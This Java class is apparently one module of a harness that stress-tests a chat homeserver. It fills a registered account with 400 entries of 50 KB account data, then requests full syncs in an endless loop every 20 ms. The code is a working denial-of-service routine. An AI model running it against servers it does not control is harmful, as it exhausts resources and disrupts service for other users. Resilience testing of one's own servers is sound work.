package org.bongsu.attack;

import java.io.IOException;
import org.bongsu.client.Http;
import org.bongsu.json.Json;

/** As much account data as the server takes, and initial syncs that contain all of it. */
final class AccountDataFlood implements Attack {
  private static final int ENTRIES = 400;
  private static final String VALUE = "x".repeat(50_000);

  private Target.Account attacker = new Target.Account("", "");

  @Override
  public String name() {
    return "account-data";
  }

  @Override
  public String what() {
    return "%,d times 50 KB of account data, and syncs of all of it".formatted(ENTRIES);
  }

  @Override
  public void prepare(Target target) throws IOException, InterruptedException {
    attacker = target.register("hoarder");
    for (int i = 0; i < ENTRIES; i++) {
      String path =
          "%s/user/%s/account_data/org.example.hoard%d"
              .formatted(Http.CLIENT, Http.encode(attacker.userId()), i);
      target.ask("PUT", path, attacker.token(), Json.object().put("value", VALUE));
    }
  }

  @Override
  public void run(Target target) throws IOException, InterruptedException {
    while (true) {
      target.ask("GET", Http.CLIENT + "/sync?timeout=0", attacker.token(), null);
      Thread.sleep(20);
    }
  }
}
